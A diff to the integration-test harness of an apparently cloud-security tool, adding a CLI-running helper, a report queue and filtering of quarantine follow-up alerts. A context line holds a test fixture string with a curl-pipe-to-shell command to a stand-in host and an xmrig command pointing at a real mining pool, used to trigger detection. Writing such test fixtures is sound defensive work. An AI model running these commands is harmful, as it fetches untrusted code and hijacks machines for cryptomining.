@@ -9,6 +9,7 @@ from __future__ import annotations
 import itertools
 import json
 import os
+import subprocess
 import time
 import urllib.request
 from dataclasses import dataclass
@@ -22,11 +23,12 @@ from botocore.exceptions import ClientError
 
 ROOT = Path(__file__).resolve().parents[2]
 BINARY = Path(os.environ.get("PICKET_FUNCTIONS", ROOT / "target" / "debug" / "picket-functions"))
+CLI = Path(os.environ.get("PICKET", ROOT / "target" / "debug" / "picket"))
 MINER = "#!/bin/sh\ncurl -s https://example.com/x | sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A\n"
 # Everything counts as new at once, and the many instances of a test run are no blast.
 ENFORCING = "version: 1\nmode: enforce\nrisk: {learning: 0s}\nblast_radius: {instances_per_hour: 5000}\n"
 WORLD = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
-QUEUES = ("triggers", "assess", "respond", "fix", "notices", "watch")
+QUEUES = ("triggers", "assess", "respond", "fix", "notices", "report", "watch")
 _numbers = itertools.count(1)
 
 
@@ -225,13 +227,15 @@ class Deployment:
                 self._alerts.append(json.loads(message["Body"]))
                 self.sqs.delete_message(QueueUrl=self._on_call, ReceiptHandle=message["ReceiptHandle"])
 
-    def alerts_about(self, word: str) -> list[dict]:
-        """The alerts that name an instance, a case or anything else."""
-        return [alert for alert in self.alerts() if word in alert["Message"]]
+    def alerts_about(self, word: str, follow_ups: bool = False) -> list[dict]:
+        """The alerts that name an instance, a case or anything else; those that complete an alert only if wanted."""
+        named = [alert for alert in self.alerts() if word in alert["Message"]]
+        completes = ("QUARANTINE COMPLETE", "QUARANTINE NOT WHOLE")
+        return [alert for alert in named if follow_ups or not alert["Message"].startswith(completes)]
 
     def alert_about(self, word: str, says: str, seconds: float = 15) -> dict:
         """Waits for an alert about something that begins with these words."""
-        mine = lambda: [a for a in self.alerts_about(word) if a["Message"].startswith(says)]  # noqa: E731
+        mine = lambda: [a for a in self.alerts_about(word, True) if a["Message"].startswith(says)]  # noqa: E731
         return eventually(mine, f"an alert about {word} that begins with {says!r}", seconds)[0]
 
     def changes(self, naming: str = "", since: float = 0) -> list[dict]:
@@ -299,6 +303,12 @@ class Deployment:
             return [event["CloudTrailEvent"] for event in events if event["EventName"] == name]
 
         return json.loads(eventually(found, f"CloudTrail's record of {name} with {instance}")[0])
+
+    def cli(self, *arguments: str) -> subprocess.CompletedProcess[str]:
+        """Runs `picket` against this deployment, as a person at a terminal."""
+        env = environment.without_real_credentials(dict(os.environ)) | environment.for_clients(self.cloud.port)
+        command = [str(CLI), "--stack", self.stack, *arguments]
+        return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)
 
     def invoke(self, function: str, payload: dict) -> Any:
         """Invokes a function as a person who may."""
